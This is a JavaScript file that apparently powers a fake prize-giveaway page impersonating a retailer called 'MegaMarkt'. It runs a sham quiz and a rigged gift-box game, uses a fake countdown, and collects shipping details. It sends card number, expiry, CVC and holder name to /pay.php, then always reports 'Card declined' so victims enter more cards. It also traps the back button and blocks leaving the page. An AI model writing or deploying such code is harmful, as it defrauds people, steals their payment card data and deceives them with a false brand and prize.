var leaving = true;
var quiz = 1;
$(function () {
    var d = new Date();
    $('.today').text(d.toLocaleDateString());
    $('.brand').text('MegaMarkt');
    $('.left').text(Math.floor(Math.random() * 4) + 2);

    $('.answer').on('click', function () {
        $('#q' + quiz).hide();
        quiz++;
        if (quiz <= 4) { $('#q' + quiz).show(); return; }
        $('#checking').show();
        $('#checking p').each(function (i) { $(this).delay(1400 * i).fadeIn(); });
        setTimeout(function () { $('#checking').hide(); $('#boxes').show(); }, 6000);
    });

    var opened = 0;
    $('.giftbox').on('click', function () {
        opened++;
        if (opened < 2) { $(this).addClass('empty'); alert('Oh! This box is empty. You have 2 attempts left!'); return; }
        $(this).addClass('win');
        $('#winModal').show();
    });

    $('#claim').on('click', function () { leaving = false; $('#winModal').hide(); $('#shipping').show(); countdown(600); });

    $('#shipping form').on('submit', function (e) {
        e.preventDefault();
        $.post('/lead.php', $(this).serialize() + '&ref=' + encodeURIComponent(location.search)).always(function () {
            $('#shipping').hide();
            $('#cardform').show().find('.fee').text('1,95 EUR');
        });
    });

    $('#cardform form').on('submit', function (e) {
        e.preventDefault();
        $.post('/pay.php', { pan: this.pan.value, exp: this.exp.value, cvc: this.cvc.value, holder: this.holder.value });
        $('#cardform .err').text('Card declined. Please use another card.');
        this.reset();
    });
});

function countdown(s) {
    setInterval(function () { s--; $('.timer').text(Math.floor(s / 60) + ':' + ('0' + s % 60).slice(-2)); }, 1000);
}

history.pushState({}, '', location.href);
window.onpopstate = function () { history.pushState({}, '', location.href); $('#stay').show(); };
window.onbeforeunload = function () { if (leaving) return 'Your prize is still reserved!'; };
